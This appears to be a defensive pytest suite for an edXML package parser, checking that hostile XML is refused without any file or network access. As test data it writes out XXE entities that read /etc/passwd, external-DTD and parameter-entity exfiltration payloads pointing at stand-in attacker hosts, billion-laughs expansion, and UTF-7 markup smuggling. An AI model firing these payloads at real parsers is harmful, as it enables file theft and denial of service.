"""Hostile XML is refused with a coded ``EdxmlError`` — never another exception, never I/O.

Every case goes through :func:`parse_package` exactly as a received package would. Network
access is made impossible for the whole module (a guard on ``socket``), and files the hostile
documents point at hold a secret that must never come back in a result or an error.
"""

from __future__ import annotations

import base64
import errno
import os
import socket
import string
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from lxml import etree

from lienthong.domain.edxml.limits import DEFAULT_LIMITS, Limits
from lienthong.domain.edxml.model import EDXML_NS, Package
from lienthong.domain.edxml.parser import parse_package
from lienthong.domain.edxml.serializer import serialize_package
from lienthong.domain.errors import CATALOGUE, EdxmlError

pytestmark = pytest.mark.unit

SECRET = "lienthong-secret-7f3a9c"
#: Encodings libxml2 reads whatever the bytes look like; the raw-byte DOCTYPE check only
#: sees the first one, the others must be caught after parsing.
ENCODINGS = ["utf-8", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7"]


class NetworkUsedError(AssertionError):
    """Raised by the socket guard: the code under test tried to open a connection."""


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[object]]:
    """Make every outgoing connection from Python fail loudly, and record the attempts."""
    attempts: list[object] = []

    def refuse(_self: socket.socket, address: object, *_args: object) -> None:
        attempts.append(address)
        raise NetworkUsedError(f"connection to {address!r} attempted")

    def refuse_create(address: object, *_args: object, **_kwargs: object) -> None:
        attempts.append(address)
        raise NetworkUsedError(f"connection to {address!r} attempted")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse_create)
    yield attempts
    assert attempts == [], f"network access attempted: {attempts}"


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    """A local file a hostile document tries to read."""
    path = tmp_path / "secret.txt"
    path.write_text(SECRET, encoding="utf-8")
    return path


@pytest.fixture
def trap(tmp_path: Path) -> Iterator[Path]:
    """A named pipe that records whether anything opened it — libxml2 reads files in C,
    out of reach of Python-level guards, and a reader blocks in open() until a writer
    comes, so a thread polling as a writer cannot miss it (and unblocks it)."""
    path = tmp_path / "trap.dtd"
    os.mkfifo(path)
    opened = threading.Event()
    done = threading.Event()

    def watch() -> None:
        while not done.is_set():
            try:
                descriptor = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            except OSError as exc:  # ENXIO: no reader yet
                if exc.errno != errno.ENXIO:
                    raise
                time.sleep(0.001)
                continue
            opened.set()
            os.close(descriptor)

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    yield path
    time.sleep(0.02)  # a reader that is late still gets seen
    done.set()
    watcher.join(timeout=5)
    assert not opened.is_set(), f"{path} was opened while parsing"


def _utf7(text: str) -> bytes:
    """UTF-7 with every markup character base64-encoded (``<`` as ``+ADw-``).

    Python's codec would leave ``<`` readable; a hostile producer need not, and libxml2 still
    decodes it, so the raw bytes show no markup at all.
    """
    direct = set(string.ascii_letters + string.digits + " '(),-./:?")
    out = []
    for char in text:
        if char in direct:
            out.append(char)
        else:
            encoded = base64.b64encode(char.encode("utf-16-be")).decode("ascii").rstrip("=")
            out.append(f"+{encoded}-")
    return "".join(out).encode("ascii")


def _encode(text: str, encoding: str) -> bytes:
    """The document in ``encoding``, with a matching declaration (UTF-16/32 get their BOM)."""
    declaration = f'<?xml version="1.0" encoding="{encoding.upper()}"?>'
    if encoding == "utf-7":
        return declaration.encode("ascii") + _utf7(text)
    return (declaration + text).encode(encoding)


def _everything_said(result: Package | EdxmlError) -> str:
    """All the text a caller could see: the repr of a package, or an error and its detail."""
    if isinstance(result, EdxmlError):
        return " ".join((str(result), repr(result), result.detail, result.path, *result.args))
    return repr(result) + serialize_package(result).decode("utf-8")


def _parse_outcome(data: bytes, *, repair: bool = True) -> Package | EdxmlError:
    try:
        return parse_package(data, repair=repair)
    except EdxmlError as exc:
        return exc


def _refused(
    data: bytes, code: str, *, limits: Limits = DEFAULT_LIMITS, repair: bool = True
) -> EdxmlError:
    """Parse ``data``; it must be refused with exactly ``code`` (any other exception fails)."""
    with pytest.raises(EdxmlError) as info:
        parse_package(data, limits=limits, repair=repair)
    error = info.value
    assert error.code == code, f"{error.code} ({error.detail})"
    assert error.code in CATALOGUE
    assert error.message_vi
    assert error.message_en
    return error


def _root(inner: str = "") -> str:
    return f'<edXML xmlns="{EDXML_NS}">{inner}</edXML>'


# --- XXE, external DTDs, entities ------------------------------------------------------------


@pytest.mark.parametrize("repair", [True, False])
def test_xxe_reading_etc_passwd_is_refused_and_leaks_nothing(repair: bool) -> None:
    document = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        + _root("<edXMLEnvelope><Subject>&xxe;</Subject></edXMLEnvelope>")
    )
    error = _refused(document.encode(), "edxml.unsafe_xml", repair=repair)
    said = _everything_said(error)
    passwd = Path("/etc/passwd")
    lines = passwd.read_text(errors="replace").splitlines() if passwd.exists() else []
    for line in lines:
        if len(line) > 8:  # short lines could match by chance
            assert line not in said
    assert "root:" not in said


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("repair", [True, False])
def test_xxe_in_any_encoding_is_refused_and_leaks_nothing(
    encoding: str, repair: bool, secret_file: Path
) -> None:
    document = f'<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "{secret_file.as_uri()}">]>' + _root(
        "<Subject>&xxe;</Subject>"
    )
    data = _encode(document, encoding)
    error = _refused(data, "edxml.unsafe_xml", repair=repair)
    assert SECRET not in _everything_said(error)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32", "utf-7"])
def test_doctype_hidden_from_the_byte_check_is_caught_after_parsing(encoding: str) -> None:
    data = _encode("<!DOCTYPE edXML>" + _root(), encoding)
    # The raw-byte pre-check cannot see the markup in these encodings ...
    assert b"<!DOCTYPE" not in data
    assert b"<!ENTITY" not in data
    # ... so this refusal comes from the check of the parsed document's DOCTYPE.
    _refused(data, "edxml.unsafe_xml")
    _refused(data, "edxml.unsafe_xml", repair=False)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_the_same_document_without_doctype_is_accepted(encoding: str) -> None:
    # The control for the test above: the encoding alone is not what gets refused.
    package = parse_package(_encode(_root(), encoding))
    assert package.envelope is None


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize(
    "system_id",
    [
        "http://127.0.0.1:9/evil.dtd",
        "https://attacker.example/evil.dtd",
        "ftp://attacker.example/evil.dtd",
        "file:///etc/passwd",
        "evil.dtd",
    ],
)
def test_external_dtd_is_refused_without_fetching(encoding: str, system_id: str) -> None:
    data = _encode(f'<!DOCTYPE edXML SYSTEM "{system_id}">' + _root(), encoding)
    _refused(data, "edxml.unsafe_xml")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_public_external_dtd_is_refused(encoding: str) -> None:
    doctype = '<!DOCTYPE edXML PUBLIC "-//EVIL//DTD//EN" "http://127.0.0.1:9/evil.dtd">'
    _refused(_encode(doctype + _root(), encoding), "edxml.unsafe_xml")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_parameter_entities_are_refused(encoding: str, secret_file: Path) -> None:
    document = (
        "<!DOCTYPE edXML ["
        f'<!ENTITY % file SYSTEM "{secret_file.as_uri()}">'
        '<!ENTITY % dtd SYSTEM "http://127.0.0.1:9/exfiltrate.dtd">'
        "%dtd; %file;"
        "]>" + _root()
    )
    error = _refused(_encode(document, encoding), "edxml.unsafe_xml")
    assert SECRET not in _everything_said(error)


def _billion_laughs() -> str:
    entities = ['<!ENTITY lol0 "lollollollollollollollollollol">']
    entities += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return f"<!DOCTYPE edXML [{''.join(entities)}]>" + _root("<Subject>&lol9;</Subject>")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("repair", [True, False])
def test_billion_laughs_is_refused_fast(encoding: str, repair: bool) -> None:
    data = _encode(_billion_laughs(), encoding)
    started = time.perf_counter()
    _refused(data, "edxml.unsafe_xml", repair=repair)
    assert time.perf_counter() - started < 1.0


def test_entity_declaration_alone_is_refused() -> None:
    _refused(_root("<!ENTITY x 'y'>").encode(), "edxml.unsafe_xml")


def test_undefined_entity_reference_is_refused_even_when_repairing() -> None:
    data = _root("<Subject>before &undefined; after</Subject>").encode()
    _refused(data, "edxml.unsafe_xml")  # repair must not keep an entity reference
    _refused(data, "edxml.not_xml", repair=False)


def test_character_references_are_ordinary_text() -> None:
    # The control: numeric and predefined references are not entities to refuse.
    data = _root(
        "<edXMLEnvelope><edXMLHeader><MessageHeader><Subject>&#86;&#7873; &lt;&amp;&gt;"
        "</Subject></MessageHeader></edXMLHeader></edXMLEnvelope>"
    ).encode()
    assert parse_package(data).header.subject == "Về <&>"


def test_xinclude_is_kept_as_data_never_processed(secret_file: Path) -> None:
    include = (
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        f'href="{secret_file.as_uri()}" parse="text"/>'
    )
    package = parse_package(_root(include).encode())
    said = _everything_said(package)
    assert SECRET not in said
    assert secret_file.as_uri() in said  # kept verbatim as an unknown element


def test_the_file_trap_sees_a_parser_that_reads_external_dtds(tmp_path: Path) -> None:
    # The control for the tests below: a parser configured to load DTDs does open the trap.
    path = tmp_path / "control.dtd"
    os.mkfifo(path)
    opened = threading.Event()

    def feed() -> None:
        while not opened.is_set():
            try:
                descriptor = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                time.sleep(0.001)
                continue
            opened.set()
            os.write(descriptor, b"<!ELEMENT edXML ANY>")
            os.close(descriptor)

    watcher = threading.Thread(target=feed, daemon=True)
    watcher.start()
    unsafe = etree.XMLParser(load_dtd=True, no_network=True)
    etree.fromstring(f'<!DOCTYPE edXML SYSTEM "{path.as_uri()}"><edXML/>'.encode(), unsafe)
    watcher.join(timeout=5)
    assert opened.is_set()


TRAPS = {
    "external DTD": '<!DOCTYPE edXML SYSTEM "{uri}">' + _root(),
    "public DTD": '<!DOCTYPE edXML PUBLIC "-//X//DTD//EN" "{uri}">' + _root(),
    "external entity": '<!DOCTYPE edXML [<!ENTITY x SYSTEM "{uri}">]>' + _root("&x;"),
    "unused entity": '<!DOCTYPE edXML [<!ENTITY x SYSTEM "{uri}">]>' + _root(),
    "parameter entity": '<!DOCTYPE edXML [<!ENTITY % p SYSTEM "{uri}"> %p;]>' + _root(),
    "xinclude": _root('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{uri}"/>'),
    "schema location": _root().replace(
        "<edXML ",
        '<edXML xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        'xsi:schemaLocation="urn:x {uri}" ',
    ),
}


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("repair", [True, False])
@pytest.mark.parametrize("case", sorted(TRAPS))
def test_no_file_is_ever_opened(case: str, encoding: str, repair: bool, trap: Path) -> None:
    data = _encode(TRAPS[case].format(uri=trap.as_uri()), encoding)
    outcome = _parse_outcome(data, repair=repair)
    if isinstance(outcome, EdxmlError):
        assert outcome.code == "edxml.unsafe_xml"
    else:
        assert case in ("xinclude", "schema location")  # kept as data, never followed


# --- shape and size bounds --------------------------------------------------------------------


def _nested(levels: int) -> bytes:
    """A package root with ``levels`` elements in total on its deepest branch."""
    inner = "<x>" * (levels - 1) + "</x>" * (levels - 1)
    return _root(inner).encode()


def test_nesting_at_max_depth_is_accepted_and_one_more_is_refused() -> None:
    limits = Limits(max_depth=10)
    assert parse_package(_nested(10), limits=limits).extras.elements
    error = _refused(_nested(11), "edxml.too_deep", limits=limits)
    assert "10" in error.detail


def test_default_depth_limit_applies() -> None:
    depth = DEFAULT_LIMITS.max_depth
    parse_package(_nested(depth))
    _refused(_nested(depth + 1), "edxml.too_deep")


@pytest.mark.parametrize("repair", [True, False])
@pytest.mark.parametrize("closed", [True, False])
def test_very_deep_nesting_is_refused_fast(repair: bool, closed: bool) -> None:
    levels = 200_000
    data = b"<edXML>" + b"<x>" * levels + (b"</x>" * levels + b"</edXML>" if closed else b"")
    started = time.perf_counter()
    _refused(data, "edxml.too_deep", repair=repair)
    assert time.perf_counter() - started < 1.0


def _wide(count: int) -> bytes:
    """A package root with ``count`` elements in all (the root and ``count - 1`` children)."""
    return _root("<x/>" * (count - 1)).encode()


def test_element_count_at_the_limit_is_accepted_and_one_more_is_refused() -> None:
    limits = Limits(max_elements=100)
    assert len(parse_package(_wide(100), limits=limits).extras.elements) == 99
    _refused(_wide(101), "edxml.too_large", limits=limits)


def test_default_element_limit_applies() -> None:
    _refused(_wide(DEFAULT_LIMITS.max_elements + 1), "edxml.too_large")


@pytest.mark.parametrize("repair", [True, False])
def test_huge_element_count_is_refused_while_reading(repair: bool) -> None:
    # Two million elements (8 MB) would build a tree of hundreds of MB; they must be refused
    # while reading. The tail is nested too deep for libxml2: had the whole document been
    # parsed first, the refusal would say too_deep.
    data = b"<edXML>" + b"<x/>" * 2_000_000 + b"<y>" * 5_000
    started = time.perf_counter()
    _refused(data, "edxml.too_large", repair=repair)
    assert time.perf_counter() - started < 2.0


def _fastest(action: Callable[[], object], runs: int = 3) -> float:
    """The best of a few timings: robust to a busy machine, which only ever adds time."""
    timings = []
    for _ in range(runs):
        started = time.perf_counter()
        action()
        timings.append(time.perf_counter() - started)
    return min(timings)


def test_repairing_a_wide_package_grows_linearly() -> None:
    # Repair walks the recovered tree; it must stay linear in the number of elements (the
    # walk was quadratic: 2 s for 20 000 elements, against 0.25 s to read them). Compared as
    # a scaling ratio, 4x the elements, so that a busy machine slows both sides alike:
    # linear gives about 4x the time, quadratic 16x.
    def malformed(count: int) -> bytes:
        return b"<edXML>" + b"<x/>" * count + b"<unclosed>"

    wide = DEFAULT_LIMITS.max_elements - 2
    package = parse_package(malformed(wide))
    assert [code for code, _ in package.notes] == ["edxml.malformed_xml_repaired"]
    assert len(package.extras.elements) == wide + 1  # and the unclosed element itself
    small = _fastest(lambda: parse_package(malformed(wide // 4)), runs=5)
    large = _fastest(lambda: parse_package(malformed(wide)), runs=5)
    assert large < 9 * small + 0.05, f"4x the elements took {large / small:.1f}x the time"


def test_malformed_package_too_wide_to_repair_is_refused_fast() -> None:
    started = time.perf_counter()
    _refused(b"<edXML>" + b"<x/>" * 500_000 + b"<unclosed>", "edxml.too_large")
    assert time.perf_counter() - started < 2.0


def _attributes(count: int) -> bytes:
    names = " ".join(f'a{index}=""' for index in range(count))
    return f'<edXML xmlns="{EDXML_NS}" {names}/>'.encode()


def test_attribute_count_at_the_limit_is_accepted_and_one_more_is_refused() -> None:
    limits = Limits(max_attributes=50)
    assert len(parse_package(_attributes(50), limits=limits).extras.attributes) == 50
    _refused(_attributes(51), "edxml.too_large", limits=limits)


def test_huge_attribute_count_is_refused_fast() -> None:
    # 100 000 attributes on one element (1.2 MB) used to take minutes to read.
    started = time.perf_counter()
    _refused(_attributes(100_000), "edxml.too_large")
    assert time.perf_counter() - started < 3.0


def test_oversize_package_is_refused_before_parsing() -> None:
    limits = Limits(max_package_bytes=1_000)
    assert parse_package(_root("x" * 900).encode(), limits=limits).envelope is None
    # Garbage would be not_xml: too_large proves the size is checked first.
    error = _refused(b"\x00" * 1_001, "edxml.too_large", limits=limits)
    assert "1001" in error.detail


def test_default_size_limit_applies() -> None:
    data = b" " * (DEFAULT_LIMITS.max_package_bytes + 1)
    _refused(data, "edxml.too_large")


# --- not XML, wrong root ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"   \n\t",
        b"\x00\x01\x02\x03",
        b"\xff\xfe\x00",
        b"%PDF-1.4 not a package",
        b"PK\x03\x04 a zip, not a package",
        b'{"edXML": true}',
        b"<",
        b"<>",
        b"</edXML>",
        b"<?xml version='1.0'?>",
        b"<!-- only a comment -->",
        "<edXML>".encode("cp037"),
    ],
    ids=repr,
)
@pytest.mark.parametrize("repair", [True, False])
def test_non_xml_is_refused(data: bytes, repair: bool) -> None:
    _refused(data, "edxml.not_xml", repair=repair)


@pytest.mark.parametrize(
    "document",
    [
        "<foo/>",
        f'<edXMLEnvelope xmlns="{EDXML_NS}"/>',
        f'<e:Envelope xmlns:e="{EDXML_NS}"/>',
        "<html><body>edXML</body></html>",
    ],
)
def test_wrong_root_element_is_refused(document: str) -> None:
    _refused(document.encode(), "edxml.bad_root")


@pytest.mark.parametrize(
    "document",
    [
        '<edXML xmlns="urn:not-qcvn"/>',
        '<e:edXML xmlns:e="http://www.mic.gov.vn/TBT/QCVN_102_2016/evil"/>',
        '<edXML xmlns="http://www.w3.org/2000/09/xmldsig#"/>',
    ],
)
def test_root_in_a_foreign_namespace_is_refused(document: str) -> None:
    _refused(document.encode(), "edxml.wrong_namespace")


def test_root_in_the_edxml_namespace_with_a_prefix_is_accepted() -> None:
    assert parse_package(f'<e:edXML xmlns:e="{EDXML_NS}"/>'.encode()).envelope is None


MALFORMED = [
    _root("<Subject>unclosed"),
    _root("<a></b>"),
    _root('<a x="1" x="2"/>'),
    _root("text ]]> here"),
    _root("<a>&</a>"),
    _root("<a b=unquoted/>"),
    _root("<p:a/>"),
    _root('<a p:b="1"/>'),
    _root("") + "<second-root/>",
]


@pytest.mark.parametrize("document", MALFORMED)
def test_malformed_xml_without_repair_is_refused(document: str) -> None:
    _refused(document.encode(), "edxml.not_xml", repair=False)


@pytest.mark.parametrize("document", MALFORMED)
def test_malformed_xml_with_repair_is_read_with_a_note_or_refused_with_a_code(
    document: str,
) -> None:
    outcome = _parse_outcome(document.encode())
    if isinstance(outcome, EdxmlError):
        assert outcome.code in CATALOGUE
    else:
        assert [code for code, _ in outcome.notes] == ["edxml.malformed_xml_repaired"]
        # What was repaired can be written and read back strictly.
        assert parse_package(serialize_package(outcome), repair=False) == outcome


@pytest.mark.parametrize(
    "document",
    [
        _root('<x xmlns="relative/uri"/>'),
        _root('<x xmlns:r="relative" r:y="1"/>'),
        _root('<r:x xmlns:r="../up"><r:y/></r:x>'),
    ],
)
def test_relative_namespace_uri_is_refused_with_a_code(document: str) -> None:
    # Exclusive C14N (how unknown elements are kept) cannot represent a relative namespace URI.
    with pytest.raises(EdxmlError) as info:
        parse_package(document.encode())
    assert info.value.code in CATALOGUE


@pytest.mark.parametrize("repair", [True, False])
def test_namespace_uri_that_cannot_be_written_back_is_refused(repair: bool) -> None:
    # '&' is a valid URI character, but libxml2's C14N writes namespace URIs unescaped: kept,
    # it would make every package written from this one malformed (found by fuzzing).
    document = _root('<x xmlns="urn:a?b=1&amp;c=2"><y/></x>')
    _refused(document.encode(), "edxml.unsafe_xml", repair=repair)
    _refused(_root('<x xmlns:q="urn:a&amp;b" q:y="1"/>').encode(), "edxml.unsafe_xml")


@pytest.mark.parametrize("document", [_root('<x a:b:c="1"/>'), _root("<a:b:c/>")])
def test_names_recovery_cannot_mend_are_refused_with_a_code(document: str) -> None:
    with pytest.raises(EdxmlError) as info:
        parse_package(document.encode())
    assert info.value.code in CATALOGUE


def test_undeclared_element_prefix_is_repaired_and_round_trips() -> None:
    package = parse_package(_root("<p:extension>kept</p:extension>").encode())
    assert [code for code, _ in package.notes] == ["edxml.malformed_xml_repaired"]
    assert "kept" in package.extras.elements[0][1]
    assert parse_package(serialize_package(package), repair=False) == package


def test_valid_package_in_utf16_reads_like_utf8(valid_package_bytes: bytes) -> None:
    text = valid_package_bytes.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
    assert parse_package(text.encode("utf-16")) == parse_package(valid_package_bytes)
